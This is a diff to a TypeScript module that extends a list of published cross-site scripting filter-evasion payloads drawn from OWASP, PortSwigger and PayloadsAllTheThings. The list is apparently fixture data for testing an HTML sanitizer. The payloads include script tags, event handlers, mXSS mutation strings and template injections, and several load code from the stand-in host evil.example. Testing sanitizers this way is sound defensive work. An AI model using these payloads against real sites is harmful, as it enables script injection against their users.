@@ -1,10 +1,11 @@
 /**
- * Published ways to smuggle a script into a text (OWASP's filter evasion cheat sheet and the lists that follow it).
- * Each would set `hacked` on the window, or ask a foreign host, where it came to life.
+ * Published ways to smuggle a script into a text (OWASP's cheat sheet on filter evasion, PortSwigger's and
+ * PayloadsAllTheThings' lists). Each would set `hacked` on the window, or ask `evil.example`, where it came to life.
  */
-export const SCRIPT_INJECTIONS: readonly string[] = [
+export const SCRIPT_INJECTIONS = [
   '<script>window.hacked=1</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
   '<script\x20type="text/javascript">window.hacked=1;</script>',
   '<script/src="https://evil.example/xss.js"></script>',
   '<<SCRIPT>window.hacked=1;//\\<</SCRIPT>',
@@ -14,7 +15,10 @@ export const SCRIPT_INJECTIONS: readonly string[] = [
   '</textarea><script>window.hacked=1</script>',
   '</title><script>window.hacked=1</script>',
   '</style><script>window.hacked=1</script>',
+  '</script><script>window.hacked=1</script>',
   '--><script>window.hacked=1</script>',
+  '--><script>window.hacked=1</script><!--',
+  ']]><script>window.hacked=1</script>',
   '<img src=x onerror=window.hacked=1>',
   '<img src="javascript:window.hacked=1;">',
   '<IMG """><SCRIPT>window.hacked=1</SCRIPT>"\\>',
@@ -26,11 +30,13 @@ export const SCRIPT_INJECTIONS: readonly string[] = [
   '<svg onload=window.hacked=1>',
   '<svg/onload=window.hacked=1>',
   '<svg><script>window.hacked=1</script></svg>',
+  '<svg><script>window.hacked&#61;1</script></svg>',
   '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
   '<svg><a xlink:href="javascript:window.hacked=1"><text y=20>x</text></a></svg>',
   '<svg><style><img src=x onerror=window.hacked=1></style></svg>',
   '<math><mi//xlink:href="data:x,<script>window.hacked=1</script>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
   '<body onload=window.hacked=1>',
   '<BODY BACKGROUND="javascript:window.hacked=1">',
   '<iframe src="javascript:window.hacked=1"></iframe>',
@@ -38,10 +44,14 @@ export const SCRIPT_INJECTIONS: readonly string[] = [
   '<iframe src=https://evil.example/frame <',
   '<object data="javascript:window.hacked=1"></object>',
   '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
+  '<embed src="data:text/html,<script>window.hacked=1</script>">',
   '<link rel="stylesheet" href="https://evil.example/xss.css">',
+  '<link rel=stylesheet href="javascript:window.hacked=1">',
   '<meta http-equiv="refresh" content="0;url=javascript:window.hacked=1">',
   '<base href="https://evil.example/">',
+  '<base href="javascript:window.hacked=1//">',
   "<style>@import'https://evil.example/xss.css';</style>",
+  "<style>@import'javascript:window.hacked=1';</style>",
   '<div style="background-image:url(https://evil.example/x.gif)">x</div>',
   '<div style="width:expression(window.hacked=1)">x</div>',
   '<a href="javascript:window.hacked=1">x</a>',
@@ -74,9 +84,17 @@ export const SCRIPT_INJECTIONS: readonly string[] = [
   '<![CDATA[<script>window.hacked=1</script>]]>',
   '<?xml version="1.0"?><script>window.hacked=1</script>',
   '&lt;script&gt;window.hacked=1&lt;/script&gt;',
+  '&#60;script&#62;window.hacked=1&#60;/script&#62;',
   '\\x3cscript\\x3ewindow.hacked=1\\x3c/script\\x3e',
+  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
   '{{constructor.constructor("window.hacked=1")()}}',
   '${window.hacked=1}',
+  '#{window.hacked=1}',
+  '<%= window.hacked=1 %>',
   "';window.hacked=1;//",
+  'javascript:window.hacked=1',
+  '" onmouseover="window.hacked=1" x="',
+  "' autofocus onfocus='window.hacked=1",
+  '`onerror=window.hacked=1`',
   "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=1//'>",
-]
+] as const
